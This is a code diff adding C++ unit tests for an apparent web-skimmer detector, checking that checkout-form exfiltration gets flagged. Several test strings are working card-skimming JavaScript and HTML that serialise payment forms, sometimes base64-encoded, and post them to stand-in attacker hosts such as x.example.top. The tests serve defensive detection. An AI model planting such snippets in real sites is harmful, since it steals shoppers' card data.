@@ -135,5 +135,52 @@ TEST(BehaviourJs, FakeFormsActionRewriteAndLocalStorageStaging) {
             0);
 }
 
+std::vector<CodeTrait> Html(std::string_view src) {
+  std::vector<CodeTrait> out;
+  AnalyzeHtml(src, "html", out);
+  return out;
+}
+
+TEST(BehaviourJs, JqueryRequestsAreAChannel) {
+  // The whole checkout form serialised and posted with jQuery to a host no provider owns.
+  EXPECT_GE(Strongest(Js("jQuery(document).on('click','#payment-button, .checkout',function(){"
+                         "var d=jQuery('form').serialize();jQuery.ajax({url:'https://"
+                         "metrics.example.top/g',type:'POST',data:{i:btoa(d)}})});"),
+                      "exfil"),
+            3);
+  EXPECT_GE(Strongest(Js("$('#co-payment-form').submit(function(){$.post('//x.example.top/c',"
+                         "{n:$('#cc_number').val()})});"),
+                      "exfil"),
+            3);
+  // The store's own checkout posting its form to a relative URL, or to a payment provider.
+  EXPECT_EQ(Strongest(Js("$('#checkout').on('submit',function(){$.ajax({url:'/checkout/save',"
+                         "type:'POST',data:$(this).serialize()})});"),
+                      "exfil"),
+            0);
+  EXPECT_EQ(Strongest(Js("$('.checkout-button').click(function(){$.ajax({url:"
+                         "'https://www.paypal.com/v2/checkout',data:$('form').serialize()})});"),
+                      "exfil"),
+            0);
+}
+
+TEST(BehaviourJs, ACardFormPostingToAnotherHostIsExfil) {
+  auto t = Html(
+      "<div><form method=post action=\"https://pay-secure.example.top/p\"><input name=\"cardnumber"
+      "\"><input name=\"cvc\"><button>Pay</button></form></div>");
+  ASSERT_EQ(t.size(), 1u);
+  EXPECT_EQ(t[0].id, "html.card_form_offsite");
+  EXPECT_EQ(t[0].strength, 3);
+  EXPECT_EQ(t[0].target_host, "pay-secure.example.top");
+  // A search form to another host, and a card form posting to a relative URL: no trait.
+  EXPECT_TRUE(Html("<form action=\"https://www.google.com/search\"><input name=q></form>").empty());
+  EXPECT_TRUE(Html("<form action=\"/checkout/pay\"><input name=\"cc_number\"></form>").empty());
+  // One form to the store, one to another host: both hosts are judged.
+  auto two = Html(
+      "<form action=\"https://shop.example.com/p\"><input name=cc_number></form>"
+      "<form action='https://x.example.top/p'><input name=cc_cid></form>");
+  ASSERT_EQ(two.size(), 2u);
+  EXPECT_EQ(two[1].target_host, "x.example.top");
+}
+
 }  // namespace
 }  // namespace tq::webroot
